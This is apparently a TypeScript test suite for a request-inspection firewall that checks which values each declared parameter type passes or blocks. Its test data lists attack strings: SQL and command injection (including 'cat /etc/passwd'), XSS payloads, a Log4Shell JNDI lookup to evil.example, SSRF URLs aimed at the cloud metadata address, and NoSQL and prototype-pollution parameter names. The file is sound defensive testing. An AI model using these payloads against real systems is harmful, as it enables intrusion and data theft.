import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'
import type { ParameterType } from '../src/value/parameter-type.ts'
import { compileParameterTypes } from '../src/value/parameter-types.ts'

function asked(type: ParameterType, value: string): string {
  const types = compileParameterTypes({ 'query.p': type }, 'parameters')
  return inspect({ method: 'GET', target: `/x?p=${encodeURIComponent(value)}`, headers: [] }, { types })
    .verdict
}

/** What each type lets pass, and what it refuses. */
const CASES: readonly (readonly [ParameterType, readonly string[], readonly string[]])[] = [
  ['number', ['', '5', '-1.5e3', '1,000', '10,20,30', 'null'], ['2;id;', '1 or 2', 'five', '5-1', '1/**/']],
  [
    'id',
    ['a1', 'ord_8f7d', 'a@b.example', 'v1.2.3', '2026-11-26T10:00'],
    ['../x', "a'b", 'a b', '<b>', '$x'],
  ],
  ['word', ["O'Brien", 'Rock & Roll (2)', 'Île-de-France'], ['<b>', 'a;id', '1=1', 'x\ny', "1' or '1'='1"]],
  [
    'text',
    ["Use ' or 1=1 -- and see", 'run ; cat /etc/passwd', '`id`', 'SELECT * FROM users'],
    [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '${jndi:ldap://x/a}',
      'http://169.254.169.254/',
    ],
  ],
  ['document', ['<script>alert(1)</script>', "1' or '1'='1"], []],
  ['code', ['require("child_process").exec("id")', '<?php system("id");', 'SELECT * FROM cpu'], []],
  ['secret', ["x' or '1'='1", '<script>alert(1)</script>'], []],
  ['file', ['<?php phpinfo(); ?>'], []],
  [
    'markup',
    ["<p>it's 1=1</p>", '<a href="/x">; cat /etc/passwd</a>'],
    ['<script>alert(1)</script>', '<p onclick=x()>', '<a href="javascript:x()">'],
  ],
  [
    'url',
    ['http://127.0.0.1:3000/cb', 'https://example.com/a.php?', 'http://10.0.0.5/'],
    ['http://169.254.169.254/', 'gopher://x:70/_', 'http://0x7f000001/', 'javascript:alert(1)'],
  ],
]

describe('the type of a parameter', () => {
  for (const [type, passing, refused] of CASES) {
    test(`${type}: lets pass what it holds and refuses what it cannot hold`, () => {
      for (const value of passing) assert.equal(asked(type, value), 'pass', JSON.stringify(value))
      for (const value of refused) assert.equal(asked(type, value), 'block', JSON.stringify(value))
    })
  }

  test('holds for what a document in a field of a form says, in forms of both kinds', () => {
    const types = compileParameterTypes({ 'body.payload.**': 'text' }, 'parameters')
    const typeOf = ['application/x-www-form-urlencoded', 'multipart/form-data; boundary=b']
    const sent = (value: string, settings = {}): readonly string[] => {
      const document = JSON.stringify({ frame: { file: value } })
      const part = '--b\r\nContent-Disposition: form-data; name="payload"\r\n\r\n'
      return [`payload=${encodeURIComponent(document)}`, `${part}${document}\r\n--b--\r\n`].map(
        (body, kind) =>
          inspect(
            {
              method: 'POST',
              target: '/hook',
              headers: ['content-type', typeOf[kind] as string],
              body: Buffer.from(body),
            },
            settings,
          ).verdict,
      )
    }
    for (const honest of ['C:\\Windows\\System32\\kernel32.dll', 'Ham & tee']) {
      assert.deepEqual(sent(honest), ['block', 'block'], honest)
      assert.deepEqual(sent(honest, { types }), ['pass', 'pass'], honest)
    }
    for (const attack of ['<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'])
      assert.deepEqual(sent(attack, { types }), ['block', 'block'], attack)
  })

  test('holds for the parameter that is named, by pattern too, and for no other', () => {
    const types = compileParameterTypes({ 'body.items.*.note': 'text', 'body.**': 'word' }, 'parameters')
    const post = (document: unknown): string =>
      inspect(
        {
          method: 'POST',
          target: '/x',
          headers: ['content-type', 'application/json'],
          body: Buffer.from(JSON.stringify(document)),
        },
        { types },
      ).verdict
    assert.equal(post({ items: [{ note: 'use ; cat /etc/passwd' }] }), 'pass')
    assert.equal(post({ items: [{ title: 'use ; cat /etc/passwd' }] }), 'block')
    assert.equal(post({ name: 'a=b' }), 'block')
  })

  test('a mistake in the configuration is found when it is loaded', () => {
    const wrong: Record<string, string> = { 'query.id': 'numbr', id: 'number' }
    assert.throws(
      () => compileParameterTypes(wrong as Record<string, ParameterType>, 'inspect.parameters'),
      /inspect\.parameters\["query\.id"\]: "numbr" is not a type.*\n?.*inspect\.parameters\["id"\]/s,
    )
  })
})

describe('a parameter whose name is an operator of a database', () => {
  const verdictOf = (target: string, settings: Record<string, ParameterType>, document?: string): string =>
    inspect(
      {
        method: document === undefined ? 'GET' : 'POST',
        target,
        headers: document === undefined ? [] : ['content-type', 'application/json'],
        ...(document !== undefined && { body: Buffer.from(document) }),
      },
      { types: compileParameterTypes(settings, 'parameters') },
    ).verdict

  test('passes where that name is declared', () => {
    assert.equal(verdictOf("/rows?$where=name%3D'a'", { 'query.$where': 'code' }), 'pass')
    assert.equal(verdictOf('/rows?filter[$where]=a', { 'query.filter[$where]': 'text' }), 'pass')
    assert.equal(verdictOf('/rows', { 'body.filter.$where': 'code' }, '{"filter":{"$where":"a"}}'), 'pass')
  })

  test('is refused under every other declaration, and beside one that is declared', () => {
    for (const settings of [
      {},
      { 'query.*': 'code' },
      { 'query.**': 'code' },
      { 'query.where': 'code' },
    ] as const)
      assert.equal(verdictOf('/rows?$where=a', settings), 'block')
    assert.equal(verdictOf('/rows?$where=a&b[$where]=a', { 'query.$where': 'code' }), 'block')
    assert.equal(verdictOf('/rows', { 'body.filter.**': 'code' }, '{"filter":{"$where":"a"}}'), 'block')
    assert.equal(verdictOf('/rows', { 'query.$where': 'code' }, '{"$where":"a"}'), 'block')
    assert.equal(verdictOf('/rows?__proto__[a]=b', { 'query.__proto__[a]': 'code' }), 'block')
    assert.equal(verdictOf('/rows?$where=a%20b', { 'query.$where': 'number' }), 'block')
  })
})
